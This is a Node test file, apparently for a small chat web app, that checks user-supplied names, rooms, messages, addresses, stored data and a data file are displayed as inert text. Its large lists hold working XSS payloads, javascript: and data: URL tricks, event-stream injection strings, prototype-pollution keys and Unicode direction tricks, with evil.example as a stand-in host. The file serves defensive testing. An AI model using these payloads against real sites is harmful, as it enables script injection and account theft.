/* Hostile words: whatever stands in a name, a room, a text, an address, the browser's storage or the data file, it is
 * shown as the text it is. No script runs, no element is made of it, nothing is asked of anybody but the server, and the
 * page's policy has nothing to object to; that it would object is shown too. */

import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { Person, Server, box, live, log, openBrowser, people, saying, texts, until } from './page.mjs';

/* ---- the words: what runs calls hit(), what loads asks evil.example ---- */

const MARKUP = [
  '<script>hit()</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '</script><script>hit()</script>', '<script>hit()//',
  '<scr<script>ipt>hit()</script>', '<script/x>hit()</script >', '<script\n>hit()</script>', '<script type=module>hit()</script>',
  '<img src=x onerror=hit()>', '"><img src=x onerror=hit()>', '\'><img src=x onerror=hit()>', '<img/src=x/onerror=hit()>',
  '<img src=//evil.example/x.png>', '<image src=x onerror=hit()>', '<img srcset=//evil.example/x>', '<IMG """><SCRIPT>hit()</SCRIPT>">',
  '<svg onload=hit()>', '<svg><script>hit()</script>', '<svg><animate onbegin=hit()>', '<svg><use href=//evil.example/x#x>',
  '<svg><a xlink:href=javascript:hit()><text>x', '<svg><style><img src=x onerror=hit()>', '<svg><foreignObject><iframe src=x>',
  '<math><a xlink:href=javascript:hit()>x', '<math><mi><mglyph><style><img src=x onerror=hit()>',
  '<iframe src=javascript:hit()>', '<iframe srcdoc="<script>parent.hit()</script>">', '<iframe src=//evil.example>', '<frameset onload=hit()>',
  '<object data=//evil.example/x>', '<object data=javascript:hit()>', '<embed src=//evil.example/x>', '<applet code=x>', '<portal src=//evil.example>',
  '<template><script>hit()</script></template>', '<div><template shadowrootmode=open><script>hit()</script>', '<slot onslotchange=hit()>',
  '<style>*{display:none}</style>', '<style>@import"//evil.example/x"</style>', '<b style=position:fixed;inset:0>x</b>',
  '<b style="background:url(//evil.example/x)">x', '<link rel=stylesheet href=//evil.example/x>', '<link rel=prefetch href=//evil.example>',
  '<base href=//evil.example/>', '<meta http-equiv=refresh content=0;//evil.example>', '<meta charset=utf-7>',
  '<form action=//evil.example><button>', '<form id=join><input name=name>', '<button formaction=javascript:hit()>x',
  '<input autofocus onfocus=hit()>', '<details open ontoggle=hit()>', '<body onload=hit()>', '<marquee onstart=hit()>',
  '<video src=//evil.example/x>', '<audio src=x onerror=hit()>', '<source srcset=//evil.example/x>', '<track src=//evil.example/x>',
  '<a href=javascript:hit()>x</a>', '<a href="java&#9;script:hit()">x</a>', '<a href=//evil.example ping=//evil.example>x</a>',
  '<a id=state>x</a><a id=part>y</a>', '<p id=messages>', '<article class=message>', '<b onmouseover=hit()>x', '<b popover ontoggle=hit()>x',
  '<x onfocus=hit() tabindex=0 autofocus>', '<x contenteditable onblur=hit()>x', '<xss style=animation:x onanimationstart=hit()>',
  '</textarea><script>hit()</script>', '</title><script>hit()</script>', '</style><script>hit()</script>', '</bdi></p></article>x',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">', '<textarea><script>hit()</script>', '<xmp><script>hit()</script>',
  '<!--><img src=x onerror=hit()>', '--><img src=x onerror=hit()>', '<![CDATA[<img src=x onerror=hit()>]]>', '<?x ><img src=x onerror=hit()>',
  '&lt;script&gt;hit()&lt;/script&gt;', '&#60;img src=x onerror=hit()&#62;', '&#x3c;b&#x3e;', '&amp;lt;', '&nbsp;&copy;&notanentity',
  '%3Cscript%3Ehit()%3C/script%3E', '%253Cb%253E', '\\x3cscript\\x3ehit()', '\\u003cscript\\u003ehit()', '+ADw-script+AD4-hit()',
  '＜script＞hit()＜/script＞', '<ſcript>hit()</ſcript>', '‹script›hit()', '<\u0130mg src=x onerror=hit()>', '¼script¾hit()¼/script¾',
  '" onmouseover="hit()', '\' onmouseover=\'hit()', '` onmouseover=`hit()', '" style="display:none', 'x" autofocus onfocus="hit()',
  'red;}*{display:none', 'url(//evil.example/x)', 'expression(hit())', '@import "//evil.example/x"',
];

const ADDRESSES = [
  'javascript:hit()', 'JaVaScRiPt:hit()', 'JAVASCRIPT:hit()', ' javascript:hit()', 'java\tscript:hit()', 'java\nscript:hit()',
  '\tjavascript:hit()', 'javascript\t:hit()', 'javascript&colon;hit()', 'javascript&#58;hit()', '&#106;avascript:hit()', 'jav&Tab;ascript:hit()',
  'javascript%3Ahit()', '%6aavascript:hit()', 'javascript://%0ahit()', 'javascript:/*http://snug.lan/*/hit()', 'javascript:\'<b onload=hit()>\'',
  'ｊavascript:hit()', 'javaſcript:hit()', '\u00a0javascript:hit()', 'feed:javascript:hit()', 'http:javascript:hit()', 'x:javascript:hit()',
  'view-source:javascript:hit()', 'data:text/html,<script>hit()</script>', 'DATA:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=hit()>', 'data:,x', 'vbscript:hit()', 'VBScript:hit', 'livescript:hit()', 'mocha:hit()', 'blob:http://snug.lan/x',
  'filesystem:http://snug.lan/x', 'file:///etc/passwd', 'about:blank', 'about:srcdoc', 'chrome://settings', 'ftp://evil.example/', 'ws://evil.example/',
  'mailto:x@evil.example', 'tel:1', 'intent://x#Intent;scheme=javascript;end', 'http://', 'https://', 'http:///x', 'http:/x', 'http:x', '//evil.example/x',
  '\\\\evil.example\\x', '/\\evil.example', 'http:\\\\evil.example', 'www.evil.example', 'evil.example', 'http://%', 'http://%00', 'http://[', 'http://[::1',
  'http://[::1]:1/', 'http://evil.example:99999/', 'http://evil.example/"onmouseover="hit()', 'http://evil.example/\'onmouseover=\'hit()',
  'http://evil.example/<script>hit()</script>', 'http://evil.example/?x=javascript:hit()', 'http://evil.example/#"><img src=x onerror=hit()>',
  'https://snug.lan@evil.example/', 'https://snug.lan%2f@evil.example/', 'http://evil.example\\@snug.lan/', 'http://evil.example\t.snug.lan/',
  'http://еxample.lan/', 'http://evil。example/', 'http://evil.example/\u202egnp.exe', 'http://evil.example/a\u200bb', 'HTTP://EVIL.EXAMPLE/',
  'HtTpS://evil.example/&quot;x', 'http://evil.example/a(b)c).', 'http://evil.example/a,', '(http://evil.example/)', '"http://evil.example/"', '<http://evil.example/>',
  '<javascript:hit()>', '[x](javascript:hit())', '[x](  JAVASCRIPT:hit())', '[x](data:text/html,<script>hit()</script>)', '[x](http://evil.example/ "onclick=hit()")',
  '[<img src=x onerror=hit()>](http://evil.example/)', '![x](//evil.example/x.png)', '![x](x"onerror="hit())', '[x]: javascript:hit()', '<a@evil.example>',
  '`<img src=x onerror=hit()>`', '```html\n<script>hit()</script>\n```', '**<img src=x onerror=hit()>**', '_<svg onload=hit()>_', '> <script>hit()</script>',
  'http://evil.example/' + 'a'.repeat(2000), 'javascript:' + ' '.repeat(500) + 'hit()', 'http://' + 'a.'.repeat(500) + 'example/',
];

const BREAKERS = [
  '__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__', 'then', 'length', 'message', 'you', 'people', 'gap',
  'null', 'undefined', 'NaN', 'true', '0', '-1', '1e999', '[object Object]', '{}', '[]', '{"by":1,"name":"Eve"}', '{"__proto__":{"text":"x"}}',
  '"}\n\nevent: you\ndata: {"by":1,"name":"Eve"}\n\n', 'x\n\nid: 5\nevent: gap\ndata: {"oldest":null}\n\n', '\ndata: {"id":1}\n\n', ': comment', 'retry: 1\n\n',
  'event: people', 'id: 1', '\n\n', 'x\\', '\\"', '\\\\"}', '\\u2028', '\\n\\n', '\\u0000', '"', '\'', '`', '${hit()}', '#{hit()}', '{{hit()}}', '<%= hit() %>', '%s%n%d',
  '{{constructor.constructor("hit()")()}}', '\';hit();//', '");hit();//', '*/hit();/*', ']]>', '-->', '//', '#', '?', '&name=Eve', '%00', '%zz', '%', '..', '.x', '../x',
  '$&', '$1', '$`', '$\'', '(((((', '[', '*', '^$', '(a+)+$', 'a'.repeat(40) + '!', 'a\u00a0b', 'a\u3000b', 'a\u0085b', 'a\x00b', 'a\x1bb', 'a\rb',
  '\ufeffx', 'a\u200bb', 'a\u200db', 'a\u00adb', '\u202eevil', '\u202eevil\u202c', '\u2066x\u2069', '\u2067x', 'a\u061cb', 'مريم', 'שלום', 'مريم 12:34', 'שלום (1)', '\u0301\u0301x',
  'Z̴̢̛̗a̷̧l̶̨g̵̡o̸', 'x' + '\u0300'.repeat(200), '\ufdfd', '\u{1f469}\u200d\u{1f469}\u200d\u{1f467}', '\u{1f3f4}\u{e0067}\u{e007f}', '\u{10ffff}', '\ufffd', '\uffff', '\u{e0041}', 'İ', 'ß', 'ŉ',
  'W'.repeat(60), 'W'.repeat(4000), '\u{1f98a}'.repeat(1000), 'x '.repeat(2000), 'x\n'.repeat(2000), '\ufdfd'.repeat(200),
];

const WORDS = [...MARKUP, ...ADDRESSES, ...BREAKERS];

/* ---- the house ---- */

let browser, server;

/* evil.example, which nobody must ever ask. */
const asked = [];
const evil = createServer((request, response) => {
  asked.push(request.url);
  response.setHeader('Access-Control-Allow-Origin', '*');
  response.end();
});

before(async () => {
  await new Promise(done => evil.listen(0, '127.0.0.1', done));
  browser = await openBrowser(`--host-resolver-rules=MAP snug.lan 127.0.0.1, MAP evil.example:80 127.0.0.1:${evil.address().port}`);
  server = await Server.open('-o', 'rate=off,rooms=512,members=1024,history=4m');
});

after(async () => {
  await browser.close();
  await server.close();
  evil.close();
});

/* Where a page may say what happened to it, of every document it ever shows. */
function listen() {
  window.hit = what => window.told('a script ran: ' + what);
  document.addEventListener('securitypolicyviolation', event => window.told('violation of ' + event.effectiveDirective));
}

/* A person whose TROUBLES are all that must not happen. AT: another server. */
async function comes(t, at = server) {
  const person = await Person.open(browser, at);
  t.after(() => person.close());
  person.troubles = [];
  const { context, page, troubles } = person;
  await context.exposeBinding('told', (_, what) => { troubles.push(what); });
  await context.addInitScript(listen);
  context.on('page', other => troubles.push('a window opened: ' + other.url()));
  context.on('request', request => {
    const { protocol, host } = new URL(request.url());
    if (protocol !== 'data:' && host !== new URL(at.origin).host) troubles.push('asked for ' + request.url());
    const isCode = request.resourceType() === 'image' && request.url().endsWith('/qr');
    if (!isCode && !['document', 'fetch'].includes(request.resourceType())) troubles.push(`asked for a ${request.resourceType()}: ${request.url()}`);
  });
  page.on('dialog', dialog => {
    troubles.push('a dialog: ' + dialog.message());
    dialog.dismiss();
  });
  page.on('frameattached', frame => troubles.push('a frame: ' + frame.url()));
  page.on('framenavigated', frame => {
    if (frame === page.mainFrame() && !frame.url().startsWith(at.origin + '/')) troubles.push('went to ' + frame.url());
  });
  return person;
}

/* What in the document the page has not made: elements of kinds that it has as they stand in its file, or never; attributes
 * that run, load or lead elsewhere. */
async function findStrangers() {
  const grows = new Set(['ARTICLE', 'LI', 'SPAN', 'P', 'BDI', 'B', 'I', 'A', 'SMALL', 'TIME', 'CODE', 'PRE', 'EM', 'STRONG', 'BUTTON']);
  const isCode = node => node.nodeName === 'IMG' && /^\/r\/[^/]+\/qr$/.test(node.getAttribute('src'));    // the room's own
  const count = root => Object.groupBy(Array.from(root.querySelectorAll('*')).filter(node => !isCode(node)), node => node.localName === 'svg' ? 'svg ' + node.className.baseVal : node.nodeName);
  const original = count(new DOMParser().parseFromString(await (await fetch('/')).text(), 'text/html'));
  const strangers = [];
  for (const [kind, nodes] of Object.entries(count(document))) {
    const isIcon = kind === 'svg icon' || kind === 'use';    // they are looked at below
    if (!grows.has(kind) && !isIcon && nodes.length !== (original[kind] || []).length) strangers.push(`${nodes.length} ${kind}`);
  }
  for (const node of document.querySelectorAll('use')) {
    if (!/^#[a-z]+$/.test(node.getAttribute('href')) || !/^(icon|mark)$/.test(node.parentNode.className.baseVal)) strangers.push(node.outerHTML);
  }
  for (const node of document.querySelectorAll('body *')) {
    for (const { name, value } of node.attributes) {
      const mayStyle = node.id === 'message' && /^height: [\d.]+px;$/.test(value);
      const isOurs = name === 'action' && value === '/join' || name === 'style' && (mayStyle || !value) || name === 'href' && node.localName === 'use' || name === 'src' && isCode(node);
      if (/^on|^(style|src|srcdoc|srcset|action|formaction|ping|background|poster|data|xlink:href|href|is|slot)$/.test(name) && !isOurs && node.nodeName !== 'A') {
        strangers.push(`${name}="${value}" of ${node.nodeName}`);
      }
    }
  }
  for (const link of document.querySelectorAll('a')) {
    const isElsewhere = link.origin !== location.origin;
    if (!/^https?:$/.test(link.protocol)) strangers.push('a link to ' + link.href);
    if (isElsewhere && !/\bno(opener|referrer)\b/.test(link.rel)) strangers.push('a link that hands us over: ' + link.href);
    for (const { name } of link.attributes) if (!['href', 'rel', 'target', 'class', 'dir', 'title'].includes(name)) strangers.push(`${name} of a link`);
  }
  const ids = Array.from(document.querySelectorAll('[id]'), node => node.id);
  if (new Set(ids).size !== ids.length) strangers.push('an id twice');
  if (document.documentElement.scrollWidth > innerWidth) strangers.push('it scrolls sideways');
  return strangers;
}

/* That nothing has happened to PERSON's page, nor will in a moment. */
async function isWell(person, page = person.page) {
  await page.evaluate(() => new Promise(done => setTimeout(() => requestAnimationFrame(() => done(true)), 50)));
  assert.deepEqual(await page.evaluate(findStrangers), []);
  assert.deepEqual(person.troubles, []);
  assert.deepEqual(person.complaints, []);
  assert.deepEqual(asked, []);
}

/* ---- others, who need no browser ---- */

function pathOf(room) {
  return '/r/' + encodeURIComponent(room).replace(/[!'()*]/g, c => '%' + c.charCodeAt(0).toString(16).toUpperCase());
}

function ask(at, path, fields, cookie = '') {
  const how = fields ? { method: 'POST', body: new URLSearchParams(fields) } : {};
  return fetch(`http://127.0.0.1:${at.port}${path}`, { ...how, redirect: 'manual', headers: { cookie } });
}

/* Joins ROOM as NAME: who joined where, or null if that can't be or is taken. */
async function guest(room, name, at = server) {
  let path = pathOf(room);
  let answer = await ask(at, path + '/join', { name });
  if (answer.status === 308) {
    path = answer.headers.get('location').replace(/\/join$/, '');
    answer = await ask(at, path + '/join', { name });
  }
  if (answer.status !== 200) {
    assert.ok([400, 404, 409].includes(answer.status), `${answer.status} for ${name} in ${room}`);
    assert.equal(answer.headers.get('content-type'), 'text/plain; charset=utf-8');
    return null;
  }
  const cookie = answer.headers.get('set-cookie').split(';')[0];
  return { ...await answer.json(), path, cookie, does: (what, fields) => ask(at, `${path}/${what}`, fields, cookie) };
}

/* Whether the server keeps TEXT, and as it is. */
async function says(someone, text) {
  const { status } = await someone.does('send', { text });
  assert.ok(status === 200 || status === 400, `${status} for ${text}`);
  return status === 200;
}

function withoutCr(text) {
  return text.replace(/\r\n/g, '\n');
}

/* What must be there of those TRIED, lest a test pass for having shown nothing. */
function mostOf(taken, tried, share) {
  assert.ok(taken.length >= tried.length * share, `only ${taken.length} of ${tried.length} were taken`);
}

/* ---- tests ---- */

/* Most of what these do is wait, so some run side by side. */
describe('hostile words', { concurrency: 3 }, () => {
  test('texts of others are shown to the letter', async t => {
    const ann = await comes(t);
    await ann.join('texts', 'Ann');
    const eve = await guest('texts', 'Eve');
    const taken = [];
    for (const text of WORDS) if (await says(eve, text)) taken.push(withoutCr(text));
    mostOf(taken, WORDS, 0.95);
    await until('all of them', async () => await log(ann.page).getByRole('article').count() === taken.length);
    assert.deepEqual(await texts(ann.page), taken);
    await isWell(ann);
    await ann.page.reload();
    await until('all of them again', async () => await log(ann.page).getByRole('article').count() === taken.length);
    assert.deepEqual(await texts(ann.page), taken);
    await isWell(ann);
    for (const link of await log(ann.page).getByRole('link').all()) assert.match(await link.getAttribute('href'), /^https?:\/\//i);
  });

  test('texts of one\'s own are shown to the letter: while they wait, when they are sent, when they are refused', async t => {
    const ann = await comes(t);
    await ann.join('own', 'Ann');
    const words = WORDS.filter((text, i) => i % 2 === 0 && text.trim() && !/[\0\r]/.test(text));    // what a text box can hold
    const inOrder = (a, b) => a < b ? -1 : 1;
    await ann.page.route('**/send', route => route.abort());
    const shown = await ann.page.evaluate(all => {
      const field = document.getElementById('message');
      return all.map(text => {
        field.value = text;
        field.dispatchEvent(new Event('input'));
        document.getElementById('compose').requestSubmit();
        return field.value;
      });
    }, words);
    assert.ok(shown.every(left => left === ''));
    await until('all to wait', async () => await ann.page.locator('[data-state=waiting]').count() === words.length);
    assert.deepEqual(await texts(ann.page), words);
    await isWell(ann);
    await ann.page.reload();    // from the storage
    await until('all to wait again', async () => await ann.page.locator('[data-state=waiting]').count() === words.length);
    assert.deepEqual(await texts(ann.page), words);
    await isWell(ann);
    await ann.page.unroute('**/send');
    await until('all to be sent', async () => await ann.page.locator('[data-state=waiting]').count() === 0, 30000);
    assert.deepEqual((await texts(ann.page)).sort(inOrder), [...words].sort(inOrder));
    assert.ok(await ann.page.locator('[data-state=refused]').count() > 0);
    await isWell(ann);
  });

  test('names are shown to the letter: in the log, among the people, as typing, in tiles and titles', async t => {
    const ann = await comes(t);
    await ann.join('names', 'Ann');
    const guests = [];
    for (const name of WORDS) {
      const one = await guest('names', name);
      if (!one) continue;
      assert.equal(one.name, name.trim().replace(/[ \u00a0\u2000-\u200a\u2028\u2029\u3000]+/g, ' '));
      guests.push(one);
      await says(one, 'from ' + one.by);
      await one.does('messages');
    }
    mostOf(guests, WORDS, 0.6);
    const names = guests.map(one => one.name);
    await until('their messages', async () => await log(ann.page).getByRole('article').count() === guests.length);
    assert.deepEqual(await log(ann.page).locator('.name').allTextContents(), names);
    const rest = guests.length + 1 - 256;
    await until('all of them here', async () => await ann.page.locator('#here').textContent() === `${guests.length + 1} here`);
    const listed = ['Ann', ...names].slice(0, rest > 0 ? 256 : undefined);
    assert.deepEqual(await people(ann.page).locator('bdi').allTextContents(), listed);
    assert.deepEqual(await people(ann.page).locator('bdi').evaluateAll(all => all.map(node => node.title)), listed);
    const first = name => Array.from(name)[0].toUpperCase();
    assert.deepEqual(await log(ann.page).locator('.tile').allTextContents(), names.map(first));
    for (let i = 0; i < guests.length; i += Math.ceil(guests.length / 6)) {
      await guests[i].does('typing', {});
      await until(names[i] + ' to type', async () => await ann.page.locator('#notice').textContent() === names[i] + ' is typing');
      await says(guests[i], 'typed');
    }
    await isWell(ann);
  });

  test('a name of one\'s own is shown to the letter, also when it is taken, refused or changed', async t => {
    const ann = await comes(t);
    const { page } = ann;
    const name = page.getByRole('textbox', { name: 'Your name', exact: true });
    await guest('mine', '<img src=x onerror=hit()>');
    await page.goto(server.origin + '/r/mine');
    await name.fill('<img src=x onerror=hit()>');
    await page.getByRole('button', { name: 'Join', exact: true }).click();
    await page.getByRole('alert').getByText('<img src=x onerror=hit()> is taken in this room.').waitFor();
    await isWell(ann);
    for (const refused of ['<script>hit()</script>\u202e', '<b>' + 'x'.repeat(64)]) {
      await name.fill(refused);
      await page.getByRole('button', { name: 'Join', exact: true }).click();
      await page.getByRole('alert').getByText(/^The name .*\.$/).waitFor();
    }
    await name.fill('<img src=x onerror=hit()>');
    await page.getByRole('button', { name: 'Join', exact: true }).click();
    await page.getByRole('button', { name: '<img src=x onerror=hit()> 2' }).click();
    await live(page);
    await people(page).getByText('<img src=x onerror=hit()> 2').waitFor();
    await ann.say('<svg onload=hit()>');
    await saying(page, '<svg onload=hit()>').waitFor();
    for (const next of ['__proto__', 'constructor', '</script><script>hit()</script>', '" onfocus="hit()', 'مريم']) {
      assert.equal(await page.evaluate(name => fetch(location.pathname + '/join', { method: 'POST', body: new URLSearchParams({ name }) }).then(({ status }) => status), next), 200);
      await until('the new name', async () => await people(page).first().locator('bdi').textContent() === next);
      await ann.say('as ' + next);
      assert.equal(await saying(page, 'as ' + next).locator('.name').textContent(), next);
    }
    await page.reload();
    await live(page);
    await until('the last name', async () => await people(page).first().locator('bdi').textContent() === 'مريم');
    await isWell(ann);
  });

  test('rooms are shown to the letter: in the list, by their address, by the form', async t => {
    const ann = await comes(t);
    const { page } = ann;
    const rooms = [];
    for (const word of WORDS) {
      const one = /^\.{0,2}$/.test(word.trim()) || word.length > 500 ? null : await guest(word, 'Eve');
      if (one && !rooms.some(({ room }) => room === one.room)) rooms.push(one);
    }
    mostOf(rooms, WORDS, 0.5);
    for (let i = 0; i < rooms.length; i += 60) {
      const part = rooms.slice(i, i + 60);
      for (const one of part) await says(one, 'x');
      await page.goto(server.origin + '/');
      await page.getByRole('link').first().waitFor();
      const links = await page.locator('#rooms a').evaluateAll(all => all.map(link => [link.querySelector('b').textContent, link.querySelector('b').title, link.getAttribute('href')]));
      for (const { room, path } of part.filter(each => !each.room.startsWith('.'))) {
        assert.deepEqual(links.find(([shown]) => shown === room), [room, room, path]);
      }
      await isWell(ann);
    }
    for (const { room, path } of rooms.filter((_, i) => i % 8 === 0)) {
      await page.goto(server.origin + path);
      await until('the invitation', async () => await page.locator('#heading').textContent() === room);
      assert.equal(await page.title(), (room + ' \u00b7 snug').trim().replace(/\s+/g, ' '));
      await isWell(ann);
    }
    for (const { room, path } of rooms.filter((_, i) => i % 32 === 1)) {
      await ann.join(room, 'Ann');
      assert.equal(new URL(page.url()).pathname, path);
      assert.equal(await page.locator('#title').textContent(), room);
      assert.equal(await box(page).getAttribute('placeholder'), 'Message ' + room);
      await saying(page, 'x').waitFor();
      await isWell(ann);
    }
  });

  test('what stands in an address is looked at by nobody', async t => {
    const ann = await comes(t);
    const { page } = ann;
    await ann.join('addresses', 'Ann');
    const words = WORDS.filter((word, i) => i % 2 === 1 && word.length < 100);
    const views = { '/': 'Room', '/r/addresses': 'Message', '/r/elsewhere': 'Your name' };
    for (let i = 0; i < words.length; i += 24) {
      const part = words.slice(i, i + 24).map(encodeURIComponent);
      const query = part.map((word, at) => (['name=', 'room=', 'text=', ''][at] ?? `x${at}=`) + word).join('&');
      for (const path in views) {
        await page.goto(`${server.origin}${path}?${query}#${part[0]}`);
        await page.getByRole('textbox', { name: views[path], exact: true }).waitFor();
      }
    }
    await isWell(ann);
    for (const path of ['/r/addresses', '/']) {
      await page.goto(server.origin + path);
      await page.evaluate(all => { for (const word of all) location.hash = word; }, words);    // raw, as typed
      await isWell(ann);
    }
    for (const raw of ['<script>hit()</script>', '"><img src=x onerror=hit()>', 'javascript:hit()', '\'-hit()-\'']) {
      await page.goto(`${server.origin}/r/addresses?${raw}#${raw}`);
      await live(page);
      await page.goto(`${server.origin}/?name=${raw}&room=${raw}`);
    }
    await isWell(ann);
    assert.deepEqual([...new Set(await page.evaluate(() => Object.keys(localStorage).filter(key => /evil|hit/.test(key + localStorage[key]))))], []);
    for (const path of ['/<script>hit()</script>', '/r/%3Cscript%3Ehit()%3C%2Fscript%3E%2F', '/r/<img src=x onerror=hit()>/nowhere', '/"><svg onload=hit()>']) {
      const answer = await page.goto(server.origin + path);
      assert.equal(answer.status(), 404, path);
      assert.equal(answer.headers()['content-type'], 'text/plain; charset=utf-8');
      assert.equal(answer.headers()['x-content-type-options'], 'nosniff');
      assert.equal(await page.evaluate(() => document.querySelectorAll('script, img, svg').length), 0);
    }
    assert.deepEqual(ann.troubles, []);
  });

  /* What an earlier page may have left in the storage, or another program on this port: keys, and what they may hold. */
  const MINE = 'outbox/kept/mine';
  const junk = ['{', 'null', '7', '""', '[]', '{}', '[null]', '"<img src=x onerror=hit()>"', '{"__proto__":{"by":1}}'];
  const items = ['[{}]', '["x"]', '[[]]', '[{"text":"<svg onload=hit()>"}]', '[{"nonce":"n","text":"<svg onload=hit()>","at":1,"after":0}]',
    '[{"nonce":{},"text":{},"at":{},"after":{}}]', '[{"nonce":"n","text":"x","at":"x","after":"x"}]', '[{"nonce":"n","text":"","at":1,"after":0}]',
    '[{"nonce":"m","text":"refused","at":2,"after":0,"reason":"<img src=x onerror=hit()>"}]', '[{"nonce":"m","text":"x","at":2,"after":0,"reason":{"a":1}}]',
    '[{"nonce":"n","text":"late","at":1e300,"after":1e300}]', '[{"nonce":"n","text":"x","at":null,"after":null}]'];
  const yous = [...junk, '{"by":1,"name":"<script>hit()</script>"}', '{"by":"<b>","name":7}', '{"by":1}', '{"name":"x"}', '{"by":1,"name":{}}', '{"by":-1,"name":""}',
    '{"by":null,"name":null}', '{"by":{},"name":[]}'];
  const leftovers = [
    ...[...junk, ...items].map((value, i) => ({ [MINE]: value, 'you/kept': yous[i] ?? 'null' })),
    ...junk.slice(-3).map(value => ({ 'draft/kept': value, tab: value, name: value, room: value })),
  ];

  /* A person whose page has these leftovers joins in, and is looked after: she is here as Ann, and what she says is sent. */
  async function livesOn(ann, leftover, text) {
    const { page } = ann;
    await page.evaluate(all => {
      localStorage.clear();
      sessionStorage.clear();
      sessionStorage.setItem('tab', '"mine"');
      for (const key in all) for (const box of [localStorage, sessionStorage]) box.setItem(key, all[key]);
    }, leftover);
    await page.reload();
    await live(page);
    await ann.say(text);
    await saying(page, text).and(page.locator(':not([data-state=waiting])')).waitFor();
    assert.equal(await saying(page, text).locator('.name').textContent(), 'Ann');
    assert.equal(await people(page).locator('bdi').first().textContent(), 'Ann');
    assert.deepEqual(ann.complaints, []);
  }

  test('what an earlier page left in the storage does no harm', async t => {
    const ann = await comes(t);
    ann.page.setDefaultTimeout(6000);
    await ann.join('kept', 'Ann');
    const failures = [];
    for (const leftover of leftovers) {
      await livesOn(ann, leftover, 'still alive ' + leftovers.indexOf(leftover)).catch(error => {
        failures.push([JSON.stringify(leftover), error.message.split('\n')[0], ...ann.complaints].join(' | '));
      });
      ann.complaints.length = 0;
      if (failures.length === 3) break;    // they take their time
    }
    assert.deepEqual(failures, []);
    await isWell(ann);
  });

  test('nor what tabs left there that are gone', async t => {
    const ann = await comes(t);
    await ann.join('gone', 'Ann');
    await livesOn(ann, Object.fromEntries([...junk, ...items].map((value, i) => ['outbox/gone/' + i, value])), 'first');
    await saying(ann.page, '<svg onload=hit()>').first().waitFor();    // after five seconds it is taken over
    await ann.say('second');
    await saying(ann.page, 'second').and(ann.page.locator(':not([data-state=waiting])')).waitFor();
    await isWell(ann);
  });

  test('a draft is kept to the letter', async t => {
    const ann = await comes(t);
    await ann.join('drafts', 'Ann');
    for (const text of ['<script>hit()</script>', '</textarea><img src=x onerror=hit()>', '\u202eevil', '{"__proto__":1}', 'javascript:hit()']) {
      await box(ann.page).fill(text);
      await ann.page.reload();
      await live(ann.page);
      assert.equal(await box(ann.page).inputValue(), text);
      await isWell(ann);
    }
  });

  /* Unicode has ends of lines of its own. They end no line of an event stream. */
  test('a text with line separators is one text, and no event', async t => {
    const ann = await comes(t);
    await ann.join('lines', 'Ann');
    const bob = await guest('lines', 'Bob');
    const eve = await guest('lines', 'Eve');
    await says(bob, 'it is me');
    const forged = JSON.stringify({ id: 1, t: 1, by: bob.by, name: 'Bob', text: 'and I owe Eve money' });
    const words = ['a\u2028b', '\u2028x\u2029', `x\u2028data: ${forged}\u2028`, `x\u2029id: 9\u2029data: ${forged}`, '\u2028event: you\u2028data: {"by":1,"name":"Eve"}\u2028', 'x\u2028retry: 1\u2028',
      'x\u2028event: people\u2028data: {"here":1,"people":[]}'];
    for (const text of words) assert.ok(await says(eve, text));
    await says(bob, 'and it is still me');
    await saying(ann.page, 'and it is still me').waitFor();
    assert.deepEqual(await texts(ann.page), ['it is me', ...words, 'and it is still me']);
    assert.deepEqual(await log(ann.page).locator('.name').allTextContents(), ['Bob', ...words.map(() => 'Eve'), 'Bob']);
    await isWell(ann);
  });

  test('right-to-left words carry nothing away', async t => {
    const ann = await comes(t);
    await ann.join('directions', 'Ann');
    for (const [name, text] of [['مريم', 'صباح الخير'], ['שלום 7', '\u202eevil\u202c'], ['(مريم', '\u2067\u202e x']]) {
      const one = await guest('directions', name);
      await says(one, text);
      await one.does('messages');
      await saying(ann.page, text).waitFor();
      const article = saying(ann.page, text);
      const [calledAt, timeAt] = [await article.locator('.name').boundingBox(), await article.locator('time').boundingBox()];
      assert.ok(timeAt.x >= calledAt.x + calledAt.width, `the time of ${name} stands at ${timeAt.x}, before ${calledAt.x + calledAt.width}`);
    }
    await isWell(ann);
  });
});

/* ---- the data file ---- */

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  for (let bit = 0; bit < 8; bit++) n = n & 1 ? 0xedb88320 ^ n >>> 1 : n >>> 1;
  return n >>> 0;
});

/* The record KIND that says REST, as store.c writes it. */
function record(kind, rest) {
  let sum = 0xffffffff;
  for (const byte of Buffer.from(rest)) sum = CRC_TABLE[(sum ^ byte) & 255] ^ sum >>> 8;
  return `:${kind} ${((sum ^ 0xffffffff) >>> 0).toString(16).padStart(8, '0')} ${rest}`;
}

function quoted(text) {
  return '"' + text.replace(/["\\]/g, '\\$&').replace(/\n/g, '\\n').replace(/\t/g, '\\t') + '"';
}

function frame(id, by, name, text) {
  return `id: ${id}\ndata: {"id":${id},"t":1700000000000,"by":${by},"name":${quoted(name)},"text":${quoted(text)}}\n\n`;
}

/* Shows ROOM of a server that begins with FILE. */
async function openFile(t, file, room) {
  const at = await Server.open('-o', 'history=4m,rooms=512');
  t.after(() => at.close());
  await at.kill();
  await writeFile(join(at.folder, 'snug.data'), file);
  await at.start();
  const ann = await comes(t, at);
  await ann.join(room, 'Ann');
  return ann;
}

test('a data file of hostile words shows them to the letter', async t => {
  const isText = word => !/[\0\x1b\r\u0085]/.test(word) && word.trim() && Buffer.byteLength(word) <= 4000;
  const isName = word => isText(word) && Buffer.byteLength(word) <= 64 && !/[\s\u00ad\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]/.test(word);
  const words = WORDS.filter(isText);
  const names = words.filter(isName);
  mostOf(names, WORDS, 0.3);
  const records = [record('room', `1 1 0 0 0 file\n\n`)];
  names.forEach((name, i) => records.push(record('member', `${i + 1} 1 0 ${'0'.repeat(60)}${(i + 1).toString(16).padStart(4, '0')} - file/${name}\n\n`)));
  words.forEach((text, i) => records.push(record('message', `- file\n${frame(i + 1, i % names.length + 1, names[i % names.length], text)}`)));
  const ann = await openFile(t, records.join(''), 'file');
  await until('all of them', async () => await log(ann.page).getByRole('article').count() === words.length);
  assert.deepEqual(await texts(ann.page), words);
